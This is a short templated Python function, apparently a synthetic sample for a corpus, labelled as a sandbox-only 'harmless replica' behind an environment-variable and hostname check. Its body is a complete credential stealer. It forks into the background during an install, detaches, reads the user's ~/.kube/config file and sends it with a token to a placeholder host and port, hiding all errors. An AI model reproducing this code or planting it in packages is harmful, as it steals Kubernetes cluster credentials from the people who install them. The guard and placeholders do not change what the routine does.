# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import socket
    import time
    try:
        if os.fork() != 0:
            time.sleep(0.6)  # the install goes on beside it
            return
    except OSError:
        return
    try:
        os.setsid()
        time.sleep(0.1)
        with open(os.path.expanduser('~/.kube/config')) as file:
            text = file.read()
        link = socket.create_connection(('{{host}}', {{port}}), timeout=1)
        link.sendall(('{{token}}\n' + text).encode())
        link.close()
    except Exception:
        pass
    finally:
        os._exit(0)
